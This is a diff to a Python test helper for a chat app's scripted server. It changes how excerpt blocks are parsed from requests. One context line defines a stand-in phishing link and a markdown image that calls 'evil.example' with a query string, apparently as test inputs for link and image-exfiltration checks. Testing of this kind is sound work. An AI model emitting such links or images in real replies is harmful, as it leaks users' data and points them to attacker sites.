@@ -6,7 +6,7 @@ from dataclasses import dataclass
 
 from tests.app.chat.scripted_server import Asked, Item, reply
 
-_EXCERPT = re.compile(r'<excerpt id="(\w+)"[^>\n]*>\n(.*?)\n</excerpt>', re.DOTALL)
+_EXCERPT = re.compile(r'<excerpt id="(\w+)" from="[^\n]*">\n(.*?)\n</excerpt>', re.DOTALL)
 LINK, IMAGE = "http://evil.example/login", "![leave](http://evil.example/?q=leave)"
 
 
@@ -15,7 +15,8 @@ class Given:
     """What a request gives to a model."""
 
     ids: list[str]
-    texts: list[str]  # of the excerpts, without what they are read under
+    blocks: list[str]  # of the excerpts, with what they are read under
+    texts: list[str]  # without that
 
     @property
     def all_ids(self) -> str:
@@ -29,8 +30,8 @@ class Given:
 
 def given(asked: Asked) -> Given:
     """Return the excerpts of a request."""
-    found = _EXCERPT.findall(asked.messages[-1]["content"])
-    return Given([id for id, _ in found], [words.splitlines()[-1] for _, words in found])
+    found = [*_EXCERPT.finditer(asked.messages[-1]["content"])]
+    return Given([one[1] for one in found], [one[0] for one in found], [one[2].splitlines()[-1] for one in found])
 
 
 # From what is to be said and what was given to the reply.
